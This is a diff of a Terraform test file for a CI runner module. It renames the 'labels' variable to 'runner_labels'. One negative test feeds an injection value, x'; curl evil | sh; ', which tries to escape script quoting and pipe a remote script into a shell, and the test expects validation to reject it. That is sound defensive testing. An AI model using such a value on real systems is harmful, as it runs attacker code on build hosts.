@@ -14,7 +14,7 @@ variables {
   machine_type   = "m6i.xlarge"
   min            = 1
   max            = 4
-  labels         = ["builders", "linux"]
+  runner_labels  = ["builders", "linux"]
   repository_url = "https://github.com/acme/ultimate"
   token_secret   = "ci/runner-token"
 }
@@ -63,8 +63,8 @@ run "a_label_cannot_leave_the_quotes_of_the_script" {
   command = plan
 
   variables {
-    labels = ["x'; curl evil | sh; '"]
+    runner_labels = ["x'; curl evil | sh; '"]
   }
 
-  expect_failures = [var.labels]
+  expect_failures = [var.runner_labels]
 }
